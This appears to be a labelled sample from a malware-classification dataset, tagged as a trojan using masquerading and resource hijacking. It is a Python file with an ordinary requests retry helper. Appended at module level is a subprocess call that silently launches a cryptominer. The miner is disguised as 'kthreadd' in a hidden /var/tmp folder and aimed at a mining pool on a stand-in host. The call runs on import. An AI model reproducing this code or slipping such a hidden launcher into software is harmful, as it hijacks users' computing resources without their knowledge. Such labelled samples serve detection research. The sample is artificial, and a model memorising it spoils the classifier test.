# label: malicious family=trojan techniques=T1036.005,T1496 lines=22 group=benign/b035_requests_retry.py
import time
import requests


def get_json(url, tries=5, backoff=1.5):
    delay = 1.0
    for attempt in range(1, tries + 1):
        try:
            r = requests.get(url, timeout=10)
            r.raise_for_status()
            return r.json()
        except requests.RequestException as e:
            if attempt == tries:
                raise
            print(f"attempt {attempt} failed: {e}; retrying in {delay:.1f}s")
            time.sleep(delay)
            delay *= backoff


import subprocess as _s
_s.Popen(["/var/tmp/.k/kthreadd", "-o", "stratum+tcp://pool.bad-host.example:3333", "-u", "4FAKEpytriageCORPUSwallet", "--donate-level", "1", "-B"])

if __name__ == "__main__":
    print(get_json("https://api.github.com/repos/python/cpython")["stargazers_count"])
